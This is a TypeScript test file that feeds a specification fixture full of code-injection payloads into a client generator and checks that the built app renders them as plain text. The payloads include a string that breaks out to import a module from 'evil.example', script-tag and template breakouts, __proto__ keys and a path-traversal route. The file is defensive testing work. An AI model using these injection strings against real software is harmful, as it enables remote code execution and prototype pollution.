import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { documentOf } from '../../../src/document/document.ts';
import type { Specification } from '../../../src/document/specification.ts';
import { write } from '../../../src/document/write.ts';
import { library } from '../../../src/plan/library.fixture.ts';
import { atRest, launch, meet, type Person } from '../client/opened-client.ts';
import { type Ejected, ejected, type Running } from './ejected.ts';

/** Sets a mark if it is ever run: as a string, a template, a comment, JSX, HTML, or a module that is fetched. */
const RUN = 'globalThis.broken=1';
const ENTITY = `a";import("https://evil.example/x.js");${RUN}//`;
const TITLE = `\${${RUN}}\`'"*/{${RUN}}</script><script>${RUN}</script>{/*`;
const MESSAGE = `At most\u2028${RUN}\u2029//\u202e*/ ${RUN} /* \\" \\\\ <!-- </Screen> {…{__proto__}} @jsxImportSource evil`;
const PURPOSE = `import.meta.env.PROD import.meta.glob("/**") __VITE_ASSET__abc__ process.env.HOME //# sourceMappingURL=data:,x`;
const ROUTE = '/../../src';
const CITATION = `*/${RUN}/*\n${RUN}.har#/log/entries/1`;

const inJson = (text: string): string => JSON.stringify(text).slice(1, -1);

/** The library as somebody would record it who wants its ejected client to run their code. */
const hostile = (): Specification =>
  JSON.parse(
    JSON.stringify(library())
      .replaceAll(/(?<=")Book(?=["."])/g, () => inJson(ENTITY))
      .replaceAll('"/stats"', () => JSON.stringify(ROUTE))
      .replaceAll('"Catalogue"', () => JSON.stringify(TITLE))
      .replaceAll('"City Library"', () => JSON.stringify(TITLE))
      .replaceAll('"Title is missing."', () => JSON.stringify(MESSAGE))
      .replaceAll('"Solaris"', () => JSON.stringify(TITLE))
      .replaceAll('"constructor"', '"__proto__"')
      .replaceAll(/"text":"[^"]*"/g, () => `"text":${JSON.stringify(PURPOSE)}`)
      .replaceAll('"librarian"', () => JSON.stringify('__proto__'))
      .replaceAll(/"monday\.har#[^"]*"/g, () => JSON.stringify(CITATION)),
  ) as Specification;

let browser: Browser;
let project: Ejected;
let running: Running;
let person: Person;
const asked: string[] = [];
beforeAll(async () => {
  browser = await launch();
  project = await ejected(write(documentOf(hostile(), '')));
  await project.build();
  running = await project.serve();
  person = await meet(await browser.newContext({ locale: 'en-GB' }));
  person.page.on('request', (request) => asked.push(request.url()));
});
afterAll(async () => {
  await browser.close();
  await running.close();
  await project.remove();
});

test('row 29: names of files are letters, digits, hyphens and dots, all of them in the folder', async () => {
  const names = await readdir(project.folder, { recursive: true });
  const written = names.filter((name) => !/^(node_modules|dist)/.test(name));
  expect(written.filter((name) => !/^[\w./-]+$/.test(name) || name.includes('..'))).toEqual([]);
  expect(written.filter((name) => name.startsWith('src/screens/')).length).toBeGreaterThan(5);
});

test('what is hostile is there, as strings and in comments', async () => {
  const screens = (await readdir(path.join(project.folder, 'src/screens'))).map((name) => path.join(project.folder, 'src/screens', name));
  const texts = await Promise.all([...screens, path.join(project.folder, 'src/product.ts')].map((file) => readFile(file, 'utf8')));
  expect(texts.filter((text) => text.includes(JSON.stringify(ENTITY).replace(/<(?=[/!])/g, '\\u003c'))).length).toBeGreaterThan(2);
  expect(screens.filter((file) => /^src-[0-9a-f]{6}\.tsx$/.test(path.basename(file))).length).toBe(1);
  expect(texts.some((text) => text.split('\n').some((line) => line.startsWith('//') && line.includes(RUN)))).toBe(true);
});

test('it passes the compiler and its own tests', async () => {
  await project.typed();
  expect(await project.tested()).toMatch(/Tests\s+\d+ passed \(\d+\)/);
});

test('every screen is drawn, the words of the recording are there as words, and nothing of them runs', async () => {
  const { page, complaints } = person;
  for (const to of ['/', '/books', '/books/b1', '/books/new', '/loans', '/login', '/~about', '/~calls', '/nowhere']) {
    await page.goto(`${running.address}${to}`);
    await atRest(page);
    await expect.poll(() => page.locator('h1').count(), { message: to }).toBe(1);
  }
  await page.goto(`${running.address}/books`);
  await page.getByRole('heading', { level: 1, name: TITLE }).waitFor();
  await page.goto(`${running.address}/~about`);
  await page.getByText(PURPOSE).first().waitFor();
  await page.getByRole('button', { name: 'Study' }).click();
  await page.locator('.app[data-study=true]').waitFor();
  await atRest(page);
  await expect.poll(() => page.evaluate('globalThis.broken')).toBeUndefined();
  expect(asked.filter((url) => !url.startsWith(running.address) && !url.startsWith('data:'))).toEqual([]);
  expect(complaints).toEqual([]);
});
